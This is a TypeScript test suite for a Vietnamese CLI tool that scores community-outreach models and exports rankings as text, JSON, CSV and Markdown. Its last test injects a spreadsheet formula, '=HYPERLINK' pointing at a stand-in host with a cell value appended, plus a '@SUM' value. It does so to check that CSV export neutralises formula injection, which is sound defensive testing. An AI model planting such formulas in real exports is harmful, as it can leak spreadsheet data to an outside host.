import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { width } from '../../src/cli/table.js';
import { execa } from 'execa';
import { BIN, dvk, dvkBytes, EXAMPLE, NODE, workspaceFrom, writeFile } from '../helpers.js';
import { runOnTerminal } from './support.js';

interface ScoreJson {
  models: {
    id: string; name: string; level: string | null; framework: string | null; assessed: boolean;
    total: number | null; max: number | null; groups: { id: string; score: number; max: number }[];
    class: { id: string; label: string } | null; recognized: boolean; exemplary: boolean;
    reasons: { code: string; message: string }[];
  }[];
}

/** RFC 4180 CSV: quoted fields, doubled quotes, CRLF. */
function parseCsv(text: string, sep = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === sep) {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

const viNumber = (s: string) => Number(s.replace(/\./g, '').replace(',', '.'));

describe('dvk score on the example workspace', () => {
  it('prints a table a committee reads at a glance', async () => {
    const r = await dvk(['-C', EXAMPLE, 'score']);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toContain('Hạng');
    expect(r.stdout).toMatch(/^\s+1\s+DT-2023-CA-01 .* 94,50\/100\s+Xuất sắc\s+✓ tiêu biểu$/m);
    expect(r.stdout).toMatch(/DT-2023-QS-01 .*chưa chấm/);
    expect(r.stdout).toContain('DT-2023-ND-01 (cấp huyện): nhóm tiêu chí C5 chỉ đạt 5,9/15 điểm, chưa đạt 50% số điểm của nhóm');
    expect(r.stdout).toContain('17 mô hình: 15 đã chấm, 11 được công nhận (3 tiêu biểu), 2 chưa chấm.');
    expect(r.stderr).toBe('');
  });

  it('JSON follows the stable shape, numbers as numbers; not-assessed models are not zero', async () => {
    const r = await dvk(['-C', EXAMPLE, 'score', '--format', 'json']);
    expect(r.exitCode).toBe(0);
    const data = JSON.parse(r.stdout) as ScoreJson;
    // Written a model at a time, and still exactly JSON.stringify's two-space layout.
    expect(r.stdout).toBe(`${JSON.stringify(data, null, 2)}\n`);
    expect(data.models).toHaveLength(17);
    const ca = data.models.find((x) => x.id === 'DT-2023-CA-01')!;
    expect(ca).toMatchObject({ level: 'huyen', framework: 'vd-100-diem', total: 94.5, max: 100, class: { id: 'xuat-sac', label: 'Xuất sắc' }, recognized: true, exemplary: true, reasons: [] });
    expect(ca.groups.reduce((s, g) => s + g.score * 100, 0) / 100).toBe(94.5);
    const qs = data.models.find((x) => x.id === 'DT-2023-QS-01')!;
    expect(qs).toMatchObject({ assessed: false, total: null, class: null, recognized: false });
    const mn = data.models.find((x) => x.id === 'DT-2023-MN-01')!;
    expect(mn.recognized).toBe(false);
    expect(mn.reasons.map((x) => x.code)).toEqual(['gate']);
    const totals = data.models.filter((x) => x.assessed).map((x) => x.total!);
    expect([...totals].sort((a, b) => b - a)).toEqual(totals);
  });

  it('CSV is UTF-8 with a BOM, Vietnamese headers, semicolons, and agrees with JSON and Markdown to the digit', async () => {
    const [json, csv, md] = await Promise.all([
      dvk(['-C', EXAMPLE, 'score', '--format', 'json']),
      dvkBytes(['-C', EXAMPLE, 'score', '--format', 'csv']),
      dvk(['-C', EXAMPLE, 'score', '--format', 'markdown']),
    ]);
    const bytes = csv.stdout;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes.subarray(3));
    const rows = parseCsv(text, ';');
    expect(rows[0]!.slice(0, 4)).toEqual(['Hạng', 'Mã', 'Tên mô hình', 'Đơn vị']);
    const header = rows[0]!;
    const byId = new Map(rows.slice(1).map((r) => [r[header.indexOf('Mã')]!, r]));
    const mdRows = new Map(
      md.stdout.split('\n').filter((l) => l.startsWith('| ') && /DT-/.test(l)).map((l) => {
        const cells = l.split(' | ').map((c) => c.replace(/^\| |\s\|$/g, ''));
        return [cells[1]!, cells];
      }),
    );
    for (const m of (JSON.parse(json.stdout) as ScoreJson).models) {
      const c = byId.get(m.id)!;
      expect(c, m.id).toBeDefined();
      const mdTotal = mdRows.get(m.id)![5]!;
      if (m.total === null) {
        expect(c[header.indexOf('Tổng điểm')]).toBe('');
        expect(mdTotal).toBe('chưa chấm');
        continue;
      }
      expect(viNumber(c[header.indexOf('Tổng điểm')]!)).toBe(m.total);
      expect(viNumber(mdTotal.split('/')[0]!)).toBe(m.total);
      expect(c[header.indexOf('Xếp loại')]).toBe(m.class!.label);
      expect(c[header.indexOf('Công nhận')]).toBe(m.recognized ? 'Có' : 'Không');
      expect(c[header.indexOf('Tiêu biểu')]).toBe(m.exemplary ? 'Có' : 'Không');
      // One number column per group, which a spreadsheet can sum to the total.
      for (const g of m.groups) expect(viNumber(c[header.indexOf(`Nhóm ${g.id}`)]!), `${m.id} ${g.id}`).toBe(g.score);
      const sum = m.groups.reduce((a, g) => a + Math.round(viNumber(c[header.indexOf(`Nhóm ${g.id}`)]!) * 100), 0);
      expect(sum / 100).toBe(m.total);
    }
    // Levels as labels, like the field.
    expect(header).not.toContain('Điểm các nhóm');
    expect(byId.get('DT-2023-CA-01')![header.indexOf('Cấp đơn vị')]).toBe('Cấp huyện');
    expect(byId.get('DT-2023-HM-01')![header.indexOf('Cấp đơn vị')]).toBe('Cấp xã');
    expect(byId.get('DT-2023-HM-01')![header.indexOf('Cấp chấm')]).toBe('Cấp huyện');
    expect(byId.get('DT-2023-CN-02')![header.indexOf('Nhóm C1')]).toBe('');
  });

  it('English output prints numbers the English way', async () => {
    const r = await dvk(['-C', EXAMPLE, '--lang', 'en', 'score']);
    expect(r.stdout).toMatch(/DT-2023-CA-01 .* 94\.50\/100/);
    expect(r.stdout).toContain("criteria group C5 scored only 5.9/15, below 50% of the group's points");
    const csv = await dvk(['-C', EXAMPLE, '--lang', 'en', 'score', '--format', 'csv']);
    expect(csv.stdout).toContain('Rank,Id,Model');
    expect(csv.stdout).toContain(',94.50,100,');
  });

  it('--explain accounts for every number', async () => {
    const r = await dvk(['-C', EXAMPLE, 'score', '--explain', 'DT-2023-DTN-01']);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toContain('Tổng hợp 4 phiếu: trung bình cộng');
    expect(r.stdout).toMatch(/^C1\.1\s+8\s+7\s+6,5\s+6,5\s+6,5\s+6,625\s+6,63$/m);
    expect(r.stdout).toMatch(/^Tổng\s+100\s+76,53$/m);
    expect(r.stdout).toContain('✓ nhóm tiêu chí C5 đạt 9,13/15 điểm, từ 50% số điểm của nhóm trở lên');
    expect(r.stdout).toContain('Kết luận: được công nhận.');
    const j = JSON.parse((await dvk(['-C', EXAMPLE, 'score', '--explain', 'DT-2023-DTN-01', '--format', 'json'])).stdout);
    const c11 = j.models[0].groups[0].criteria[0];
    expect(c11).toMatchObject({ id: 'C1.1', marks: [7, 6.5, 6.5, 6.5], exact: '6.625', score: 6.63 });
  });

  it('--explain shows a median of an even count, and an inexact mean', async () => {
    const pn = await dvk(['-C', EXAMPLE, 'score', '--explain', 'DT-2023-PN-02']);
    expect(pn.stdout).toContain('trung vị');
    const ts = await dvk(['-C', EXAMPLE, 'score', '--explain', 'DT-2023-TS-01']);
    expect(ts.stdout).toMatch(/≈ \d+,\d{4}/);
  });

  it('filters by level, unit, field and year', async () => {
    const get = async (...args: string[]) => (JSON.parse((await dvk(['-C', EXAMPLE, 'score', '--format', 'json', ...args])).stdout) as ScoreJson).models.map((x) => x.id);
    expect(await get('--unit', 'HM')).toEqual(['DT-2023-HM-01', 'DT-2023-HM-02']);
    expect(await get('--unit', 'hòa mạc')).toEqual(['DT-2023-HM-01', 'DT-2023-HM-02']);
    expect((await get('--field', 'quoc-phong-an-ninh')).sort()).toEqual(['DT-2023-CA-01', 'DT-2023-CA-02', 'DT-2023-QS-01']);
    expect((await get('--year', '2022')).length).toBe(6);
    const tinh = await dvk(['-C', EXAMPLE, 'score', '--format', 'json', '--level', 'tinh']);
    expect((JSON.parse(tinh.stdout) as ScoreJson).models.every((x) => !x.assessed)).toBe(true);
    const bad = await dvk(['-C', EXAMPLE, 'score', '--level', 'quan']);
    expect(bad.exitCode).toBe(2);
    expect(bad.stderr).toContain('Cấp "quan" không có trong danh sách cấp');
  });

  it('--fail-under exits 1 naming the models below it', async () => {
    const r = await dvk(['-C', EXAMPLE, 'score', '--fail-under', '60']);
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toContain('DT-2023-CN-02 (56,5)');
    expect(r.stderr).toContain('DT-2023-TN-01 (40,5)');
    expect((await dvk(['-C', EXAMPLE, 'score', '--fail-under', '40,5'])).exitCode).toBe(0);
    expect((await dvk(['-C', EXAMPLE, 'score', '--fail-under', 'abc'])).exitCode).toBe(2);
  });

  it('--fail-under still exits 1 when the reader of the JSON stops early (| true)', async () => {
    // `true` reads nothing: the JSON (22 KB) waits for a reader that has gone, and dvk stops writing.
    for (let i = 0; i < 3; i++) {
      const r = await execa('bash', ['-c', `"${NODE}" "${BIN}" -C "${EXAMPLE}" score --format json --fail-under 60 | true; exit \${PIPESTATUS[0]}`], { reject: false, env: { NO_COLOR: '1' } });
      expect(r.exitCode).toBe(1);
      expect(r.stderr).toContain('DT-2023-TN-01 (40,5)');
      expect(r.stderr).not.toMatch(/EPIPE|at .*\.js:\d+/);
    }
  });

  it('an unknown --explain id is a usage error', async () => {
    const r = await dvk(['-C', EXAMPLE, 'score', '--explain', 'DT-2023-XX-99']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('Không có mô hình "DT-2023-XX-99"');
  });
});

describe('dvk score refuses when what it needs has errors', () => {
  it('a score over the maximum: exit 1, the located diagnostic, which file', async () => {
    const ws = workspaceFrom(EXAMPLE);
    const file = path.join(ws, 'assessments/2023/huyen/DT-2023-HM-01.yaml');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/C1\.1: \d+(\.5)?/, 'C1.1: 19'));
    const r = await dvk(['score'], { cwd: ws });
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/assessments\/2023\/huyen\/DT-2023-HM-01\.yaml\n\s+\d+:\d+\s+lỗi\s+Điểm tiêu chí "C1\.1" là 19, vượt điểm tối đa/);
    expect(r.stderr).toContain('Không chấm được vì tệp cần dùng có lỗi: assessments/2023/huyen/DT-2023-HM-01.yaml.');
    expect(r.stderr).not.toMatch(/\n\s+at /);
  });

  it('a framework that does not apply to the model is an error', async () => {
    const ws = workspaceFrom(EXAMPLE);
    const file = path.join(ws, 'assessments/2023/huyen/DT-2023-HM-02.yaml');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('framework: vd-ca-nhan-100-diem', 'framework: vd-100-diem'));
    const r = await dvk(['score'], { cwd: ws });
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toContain('Bộ tiêu chí "vd-100-diem" không áp dụng cho mô hình "DT-2023-HM-02" (loại "individual")');
  });

  it('errors outside the scope do not block it', async () => {
    const ws = workspaceFrom(EXAMPLE);
    writeFile(ws, 'models/2022/XX/loi.yaml', 'kind: model\nversion: 1\nid: DT-2022-XX-01\nyear: 2022\n');
    const r = await dvk(['score', '--year', '2023'], { cwd: ws });
    expect(r.exitCode).toBe(0);
    const all = await dvk(['score', '--year', '2022'], { cwd: ws });
    expect(all.exitCode).toBe(1);
  });

  it('an invalid configuration is a configuration error (exit 2)', async () => {
    const ws = workspaceFrom(EXAMPLE);
    fs.appendFileSync(path.join(ws, 'dvk.config.yaml'), 'levles: [xa]\n');
    const r = await dvk(['score'], { cwd: ws });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('Có phải ý bạn là "levels"?');
    expect(r.stderr).toContain('Tệp cấu hình dvk.config.yaml có lỗi.');
  });
});

describe('on a terminal', () => {
  const widest = (text: string) => Math.max(...text.split('\n').map((l) => width(l)));

  it('score and status fit an 80-column terminal: the names narrow, the level and unit columns go, long lines wrap', async () => {
    for (const command of ['score', 'status']) {
      const { code, out } = await runOnTerminal(['-C', EXAMPLE, command], { columns: 80 });
      expect(code, command).toBe(0);
      expect(widest(out), `${command}\n${out}`).toBeLessThanOrEqual(80);
    }
    const { out } = await runOnTerminal(['-C', EXAMPLE, 'score'], { columns: 80 });
    expect(out).toMatch(/^ {3}1 {2}DT-2023-CA-01 {3}Dân vận khéo trong xây… +94,50\/100 {2}Xuất sắc {2}✓ tiêu biểu$/m);
    expect(out).not.toContain('Cấp chấm');
    expect(out).toMatch(/^ {2}DT-2023-MN-01 \(cấp huyện\): .*\n {4}\S/m);
    // A wide terminal shows every column.
    expect((await runOnTerminal(['-C', EXAMPLE, 'score'], { columns: 160 })).out).toContain('Cấp chấm');
  });

  it('piped, the output is the same as ever (no width), so scripts are not broken', async () => {
    const r = await dvk(['-C', EXAMPLE, 'score']);
    expect(r.stdout).toContain('Cấp chấm');
    expect(widest(r.stdout)).toBeGreaterThan(120);
    expect(r.stdout).toMatch(/^ {3}1 {2}DT-2023-CA-01 {3}Dân vận khéo trong xây dựng mô hình "Camera an… {3}Công an thị xã Duy Tiên/m);
  });
});

describe('spreadsheet formula injection (issue 9, defect 3)', () => {
  it('a name or unit that Excel would run as a formula is written as text, and a ; shifts no column', async () => {
    const dir = workspaceFrom(EXAMPLE);
    const file = path.join(dir, 'models/2023/CA/camera-an-ninh.yaml');
    const text = fs.readFileSync(file, 'utf8');
    fs.writeFileSync(
      file,
      text
        .replace(/^name: .*$/m, `name: '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'`)
        .replace(/unit: \{ name: [^,]*,/, `unit: { name: "@SUM(1+1); -2+3",`),
    );
    const r = await dvk(['score', '--format', 'csv'], { cwd: dir });
    expect(r.exitCode, r.stderr).toBe(0);
    const rows = parseCsv(r.stdout.replace(/^\uFEFF/, ''), ';');
    const header = rows[0]!;
    const row = rows.find((x) => x[1] === 'DT-2023-CA-01')!;
    expect(row).toHaveLength(header.length);
    expect(row[header.indexOf('Tên mô hình')]).toBe(`'=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")`);
    expect(row[header.indexOf('Đơn vị')]).toBe("'@SUM(1+1); -2+3");
    for (const r2 of rows) for (const cell of r2) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
